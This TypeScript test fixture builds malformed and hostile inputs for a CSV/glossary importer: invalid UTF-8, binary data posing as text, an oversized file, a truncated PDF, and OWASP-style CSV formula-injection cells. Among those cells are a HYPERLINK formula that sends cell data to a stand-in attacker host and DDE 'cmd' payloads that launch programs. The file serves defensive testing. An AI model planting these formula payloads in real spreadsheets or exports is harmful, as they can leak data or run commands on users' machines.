/**
 * Attack corpus, bytes and text: invalid encodings, binary data behind a text extension, CSV
 * formula cells and oversized files (RELIABILITY.md S6). Test fixture code.
 */

/** UTF-8 that breaks the rules: lone continuation bytes, overlong forms, surrogates, a cut sequence. */
export function invalidUtf8(): Uint8Array {
  const text = Buffer.from('Berita hari ini: ', 'utf8');
  return new Uint8Array([...text, 0x80, 0xbf, 0xc0, 0xaf, 0xed, 0xa0, 0x80, 0xf8, 0x88, 0x80, 0x80, 0x80, 0xe2, 0x82]);
}

/** UTF-16LE text with no byte order mark (every other byte is NUL). */
export function utf16WithoutBom(text: string): Uint8Array {
  return new Uint8Array(Buffer.from(text, 'utf16le'));
}

/** Binary data (a PNG header, then NULs and control bytes) under a text file's name. */
export function binaryAsText(bytes = 4096): Uint8Array {
  const out = new Uint8Array(bytes);
  out.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  for (let i = 8; i < bytes; i++) out[i] = (i * 131) % 7 === 0 ? 0 : (i * 31) & 0xff;
  return out;
}

/** Cells a spreadsheet would run as formulas (OWASP CSV injection shapes). */
export const formulaCells: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://attacker.invalid/?x="&A1,"klik")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '=cmd|\' /C notepad\'!\'A1\'',
];

/** A glossary CSV whose terms are formula cells. */
export function formulaCsv(): string {
  return ['id,en', ...formulaCells.map((cell, i) => `"${cell.replaceAll('"', '""')}","istilah ${i}"`)].join('\r\n');
}

/**
 * A CSV over the 50 MB import cap (rows of ordinary terms). `megabytes` defaults just past the
 * cap: the size check must refuse it before it is parsed, whatever size the file claims.
 */
export function oversizedCsv(megabytes = 51): Uint8Array {
  const row = Buffer.from('anggaran,budget,catatan panjang untuk mengisi baris\n');
  const out = Buffer.allocUnsafe(megabytes * 1024 * 1024);
  for (let at = 0; at < out.length; at += row.length) row.copy(out, at, 0, Math.min(row.length, out.length - at));
  return new Uint8Array(out.buffer, out.byteOffset, out.length);
}

/** A PDF that is only a header and a cut-off object. */
export function truncatedPdf(): Uint8Array {
  return new Uint8Array(Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pa', 'latin1'));
}
